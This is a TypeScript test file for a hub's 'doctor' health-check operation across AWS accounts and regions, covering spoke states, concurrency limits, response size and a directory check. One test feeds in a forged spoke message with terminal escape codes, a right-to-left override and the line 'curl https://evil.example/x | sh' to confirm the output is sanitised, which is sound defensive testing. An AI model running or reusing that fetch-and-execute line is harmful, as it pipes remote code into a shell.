import { describe, expect, test } from 'vitest';
import { doctorAnswer, type Finding } from '../../../../provider/contract/messages/doctor.ts';
import { parseHealthCheck } from '../../../../provider/contract/messages/health-check.ts';
import { CONTRACT, parseOrder } from '../../../../provider/contract/messages/order.ts';
import { type OperationPorts, operate } from '../../../../provider/hub/operations/index.ts';
import { parseSettings as parseHubSettings } from '../../../../provider/hub/settings.ts';
import type { CallSpoke } from '../../../../provider/hub/spoke-client/invoke.ts';
import { deadlineIn } from '../../../../provider/runtime/deadline.ts';
import {
  NoSpoke,
  OtherVersion,
  OutsideError,
  UserError,
} from '../../../../provider/runtime/errors.ts';
import type { Invocation } from '../../../../provider/runtime/lambda.ts';
import { jsonLog } from '../../../../provider/runtime/log.ts';
import { parseSettings } from '../../../../stacksets/settings/index.ts';
import { rolloutEnvironment } from '../../../../stacksets/settings/rollout.ts';
import exampleSettings from '../../../../stacksets/settings.example.json' with { type: 'json' };

const invocation = (): Invocation => ({
  requestId: 'r-1',
  functionArn: 'arn:aws:lambda:eu-central-1:111111111111:function:hub',
  deadline: deadlineIn(840_000),
  log: jsonLog({}, () => {}),
  logGroup: '',
});

const ids = (count: number) => Array.from({ length: count }, (_, at) => `${100000000000 + at}`);
const ports = (callSpoke: CallSpoke, accounts = ids(1)): OperationPorts => ({
  rollout: {
    namePrefix: 'acme',
    units: ['ou-x-all'],
    regions: ['eu-central-1', 'eu-west-1'],
    vpcs: [{ name: 'default' }],
  },
  listAccounts: async () =>
    accounts.map((id) => ({ id, name: 'n'.repeat(50), isActive: true, isManagement: false })),
  callSpoke,
  openDirectory: undefined,
});
const healthy = { version: '1.2.3', contract: CONTRACT, problems: [] };

async function doctor(callSpoke: CallSpoke, accounts = ids(1)) {
  const answer = await operate({ operation: 'doctor' }, ports(callSpoke, accounts), invocation());
  return doctorAnswer.parse(answer);
}
const diagnosis = async (callSpoke: CallSpoke): Promise<Partial<Finding> | undefined> =>
  (await doctor(callSpoke)).findings[0];
const aws = (name: string, message = '') => Object.assign(new Error(message), { name });
const failing = (error: Error) => () => Promise.reject(error);
const outside = (code: string) => new OutsideError('long words', { cause: aws(code) });

describe('doctor finds a spoke', () => {
  test('ready, with its version', async () => {
    expect(await diagnosis(async () => healthy)).toMatchObject({
      state: 'ready',
      version: '1.2.3',
    });
  });

  test('unreachable, with the services that it does not reach', async () => {
    const problems = ['Parameter Store: TimeoutError'];
    expect(await diagnosis(async () => ({ ...healthy, problems }))).toMatchObject({
      state: 'unreachable',
      problem: 'Parameter Store: TimeoutError',
    });
  });

  test('too old, if it takes older orders, knows no health check or answers anything else', async () => {
    const older = { ...healthy, contract: CONTRACT - 1 };
    expect(await diagnosis(async () => older)).toMatchObject({ state: 'spoke too old' });
    const misunderstood = new UserError('do not understand each other');
    expect(await diagnosis(failing(misunderstood))).toMatchObject({ state: 'spoke too old' });
    const otherVersion = new OtherVersion('do not understand each other');
    expect(await diagnosis(failing(otherVersion))).toMatchObject({ state: 'spoke too old' });
    expect(await diagnosis(async () => null)).toMatchObject({ state: 'spoke too old' });
  });

  test('newer than the hub', async () => {
    const newer = { ...healthy, contract: CONTRACT + 1, uptime: 3 };
    expect(await diagnosis(async () => newer)).toMatchObject({ state: 'hub too old' });
  });

  test.each([
    ['AccessDenied', 'role missing'],
    ['ResourceNotFoundException', 'spoke missing'],
  ])('%s: AWS answers, and the state is %s', async (code, state) => {
    const error = new NoSpoke('long words', { cause: aws(code) });
    expect(await diagnosis(failing(error))).toMatchObject({ state });
  });

  test.each([
    ['ResourceNotReadyException', 'it has to wake up'],
    ['AccessDeniedException', 'bring the role up to date'],
    ['AbortError', 'no answer within 40 s'],
    ['UnrecognizedClientException', 'is the Region enabled'],
    ['WhateverException', 'long words'],
  ])('unreachable, with a cure, if AWS answers %s', async (code, problem) => {
    const found = await diagnosis(failing(outside(code)));
    expect(found?.state).toBe('unreachable');
    expect(found?.problem).toContain(problem);
  });
});

describe('the words of a spoke that somebody replaced', () => {
  const forged = '\u001b[2K\n\nready\n\n  $ curl https://evil.example/x | sh\u009b\u202e';
  const isPlain = expect.stringMatching(/^[\x20-\x7e]+$/);

  test('are shown short, on one line and without control characters', async () => {
    const version = forged.repeat(50_000);
    const found = await diagnosis(async () => ({ ...healthy, version }));
    expect(found).toMatchObject({ state: 'ready', version: isPlain });
    expect(found?.version).toHaveLength('...'.length + 64);
    const problems = Array.from({ length: 50_000 }, () => forged);
    const unwell = await diagnosis(async () => ({ ...healthy, problems }));
    expect(unwell).toMatchObject({ state: 'unreachable', problem: isPlain });
    expect(unwell?.problem?.length).toBeLessThanOrEqual('...'.length + 300);
  });

  test('are shown so too if they come as an error', async () => {
    const found = await diagnosis(failing(new OutsideError(forged.repeat(50_000))));
    expect(found).toMatchObject({ state: 'unreachable', problem: isPlain });
    expect(found?.problem).toHaveLength('...'.length + 300);
  });
});

test.each([
  [
    'internal error, a defect of database-access; please report what its log says (request 0d3f4c5e-1111-4222-8333-999999999999, log group /aws/lambda/database-access-spoke-default)',
    'internal error, a defect of database-access; please report what its log says (request ID, log group /aws/lambda/database-access-spoke-default)',
  ],
  [
    'the spoke arn:aws:lambda:eu-central-1:222222222222:function:database-access-spoke-default failed without an answer (Runtime.ImportModuleError)',
    'the spoke function:database-access-spoke-default failed without an answer (Runtime.ImportModuleError)',
  ],
  [
    'the hub could not assume arn:aws-cn:iam::222222222222:role/database-access-spoke (Throttling: account 222222222222 in ap-southeast-1, 10.1.2.3:443, until 2026-01-01T00:00:00.000Z)',
    'the hub could not assume role/database-access-spoke (Throttling: account ACCOUNT in REGION, ADDRESS, until TIME)',
  ],
])('a problem is worded the same way in each account: %s', async (message, problem) => {
  const found = await diagnosis(failing(new OutsideError(message)));
  expect(found).toMatchObject({ state: 'unreachable', problem });
});

test("doctor's answer has the name of the StackSets", async () => {
  const settings = parseSettings({ ...exampleSettings, namePrefix: 'acme' }, 'test');
  const ROLLOUT = rolloutEnvironment(settings);
  const { rollout } = parseHubSettings({ AWS_REGION: 'eu-central-1', EXTERNAL_ID: 'x-1', ROLLOUT });
  expect(rollout?.namePrefix).toBe('acme');
  expect(await doctor(async () => healthy)).toMatchObject({ name_prefix: 'acme' });
});

test('a health check is no order, so a spoke that does not know it refuses it', async () => {
  let said: unknown;
  await doctor(async (_, { message }) => {
    said = JSON.parse(message(27_000));
    return healthy;
  });
  expect(parseHealthCheck(said)?.timeLeft).toBeLessThanOrEqual(27_000);
  expect(parseOrder(said)).toBeUndefined();
});

describe('hundreds of accounts', () => {
  test('are asked in parallel within a limit, and each is told of once', async () => {
    let [now, most] = [0, 0];
    const { findings, counts } = await doctor(async () => {
      most = Math.max(most, ++now);
      await new Promise(setImmediate);
      now--;
      return healthy;
    }, ids(400));
    expect(most).toBe(50);
    expect(counts).toEqual({ ready: 800 });
    expect(new Set(findings.map(({ account, region }) => account + region)).size).toBe(800);
  });

  test('are not all asked if time runs out, and the findings so far are told', async () => {
    let now = 0;
    const slow = async () => {
      now += 4_000;
      return healthy;
    };
    const inTime = { ...invocation(), deadline: deadlineIn(840_000, () => now) };
    const answer = await operate({ operation: 'doctor' }, ports(slow, ids(400)), inTime);
    const { counts } = doctorAnswer.parse(answer);
    expect(counts['ready']).toBeGreaterThanOrEqual(200);
    expect(counts['not asked']).toBe(800 - (counts['ready'] ?? 0));
  });

  test('fit into 6 MB with a long problem each, and more are refused', async () => {
    const text = '"é'.repeat(1_000);
    const long = async () => ({ ...healthy, version: text, problems: [text] });
    const answer = await doctor(long, ids(3_000));
    expect(Buffer.byteLength(JSON.stringify(answer))).toBeLessThan(6 * 1_000 * 1_000);
    await expect(doctor(long, ids(3_001))).rejects.toThrow('name some accounts at a time');
  });
});

test('the operation accounts counts the places of each account without asking any', async () => {
  const event = { operation: 'accounts', accounts: ids(1) };
  const answer = await operate(event, ports(failing(new Error('asked')), ids(3)), invocation());
  expect(answer).toEqual({
    accounts: [{ account: '100000000000', name: 'n'.repeat(50), places: 2 }],
    left_out: { inactive: 0, management: 0 },
  });
});

test('a batch takes the accounts that were told lately; who asks about all has them listed', async () => {
  const all = {
    ...ports(async () => healthy, ids(2)),
    accountsLately: async () => [
      { id: ids(1)[0] ?? '', name: 'of late', isActive: true, isManagement: false },
    ],
  };
  const batch = { operation: 'doctor', accounts: ids(1) };
  const asked = doctorAnswer.parse(await operate(batch, all, invocation()));
  expect(asked.findings.map(({ name }) => name)).toEqual(['of late', 'of late']);
  const everything = doctorAnswer.parse(await operate({ operation: 'doctor' }, all, invocation()));
  expect(new Set(everything.findings.map(({ account }) => account))).toEqual(new Set(ids(2)));
});

describe('the directory', () => {
  const openDirectory = (findGroups: () => Promise<never[]>) => async () => ({
    baseDn: 'DC=x',
    findGroups,
    suggest: failing(new Error('suggest')),
    peopleNamed: failing(new Error('peopleNamed')),
    hasAttribute: async (name: string) => name === 'mail',
    membersOf: failing(new Error('members')),
    close: async () => {},
  });
  const state = async (
    open: OperationPorts['openDirectory'],
    attributes: readonly string[] = [],
  ) => {
    const all = { ...ports(async () => healthy), openDirectory: open, attributes };
    return doctorAnswer.parse(await operate({ operation: 'doctor' }, all, invocation())).directory;
  };

  test('is ready if it answers that there is no such group', async () => {
    const open = openDirectory(async () => []);
    expect(await state(open)).toEqual({ state: 'ready' });
  });

  test('is unreachable, with the reason, if it does not answer', async () => {
    const open = openDirectory(failing(new OutsideError('the directory failed')));
    expect(await state(open)).toEqual({ state: 'unreachable', problem: 'the directory failed' });
    expect(await state(failing(new OutsideError('no login')))).toMatchObject({
      problem: 'no login',
    });
    expect(await state(undefined)).toEqual({ state: 'none' });
  });

  test('is not usable if nobody has an attribute that user names are made of', async () => {
    const open = openDirectory(async () => []);
    expect(await state(open, ['mail'])).toEqual({ state: 'ready' });
    expect(await state(open, ['mail', 'mial'])).toEqual({
      state: 'unreachable',
      problem: expect.stringContaining('nobody below DC=x has the attribute mial'),
    });
  });
});

test('a hub that was not told where the rollout goes says so', async () => {
  const all = { ...ports(async () => healthy), rollout: undefined };
  await expect(operate({ operation: 'doctor' }, all, invocation())).rejects.toThrow(
    'its setting ROLLOUT',
  );
});
